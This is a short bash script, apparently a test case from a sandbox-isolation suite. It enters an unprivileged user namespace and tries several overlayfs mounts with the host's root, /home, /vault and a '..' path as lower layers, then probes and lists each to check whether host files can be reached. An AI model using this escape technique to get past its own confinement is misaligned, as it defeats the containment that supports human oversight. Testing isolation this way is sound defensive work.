#!/bin/bash
# title: an overlay with the host's root as its lower layer
# door: any
inside='mkdir -p "$WORK/m"
mount -t tmpfs any "$WORK/m" && mkdir "$WORK/m/upper" "$WORK/m/work" "$WORK/m/all" "$WORK/m/empty" || exit
for lower in / /home /vault "/home/.." ; do
    for options in "lowerdir=$lower:$WORK/m/empty" "lowerdir=$lower:$WORK/m/empty,userxattr" \
        "lowerdir=$lower,upperdir=$WORK/m/upper,workdir=$WORK/m/work,userxattr"; do
        mount -t overlay -o "$options" any "$WORK/m/all" || continue
        "$ATTACK/probe" "$WORK/m/all"
        ls "$WORK/m/all"
        umount "$WORK/m/all"
    done
done'
echo "tried: $(unshare -Urm true 2>&1 && echo a user namespace)"
unshare -Urm --propagation private bash -c "$inside" 2>/dev/null
